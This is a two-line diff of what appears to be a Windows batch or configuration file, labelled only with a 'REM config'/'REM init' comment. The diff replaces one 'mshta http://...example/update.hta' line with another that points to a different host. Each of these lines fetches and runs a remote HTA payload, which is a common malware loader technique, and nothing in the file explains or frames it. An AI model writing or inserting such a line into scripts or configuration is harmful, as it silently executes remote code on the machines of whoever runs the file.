@@ -1,2 +1,2 @@
-REM config 3152 v3
-mshta http://static.metrics-node.example/update.hta
+REM init 9016 v3
+mshta http://cdn-update.example/update.hta
